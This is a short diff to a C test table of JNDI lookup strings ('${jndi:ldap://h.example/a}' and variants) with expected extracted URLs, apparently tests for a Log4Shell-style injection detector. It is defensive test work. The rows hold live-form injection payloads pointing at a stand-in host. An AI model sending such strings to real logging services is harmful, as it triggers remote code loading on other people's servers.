@@ -117,6 +117,9 @@ static const struct {
     {FIELD_PLAIN, "`${location.protocol}//${location.host}/jndi`", ""},
     {FIELD_PLAIN, "${spring.datasource.url:jdbc:mysql://db/x}", ""},
     {FIELD_PLAIN, "$${jndi:ldap://h.example/a}", ""},
+    /* "$" as the length of what follows, all 36 bytes of it */
+    {FIELD_PLAIN, "msg\001t\002$${jndi:ldap://h.example/a-long-name}more", "ldap://h.example/a-long-name"},
+    {FIELD_PLAIN, "msg:$${jndi:ldap://h.example/a-long-name}", ""},
     {FIELD_PLAIN, "${ jndi:ldap://h.example/a}", ""},
     {FIELD_PLAIN, "${jndi:ldap://h.example/a", ""},
 };
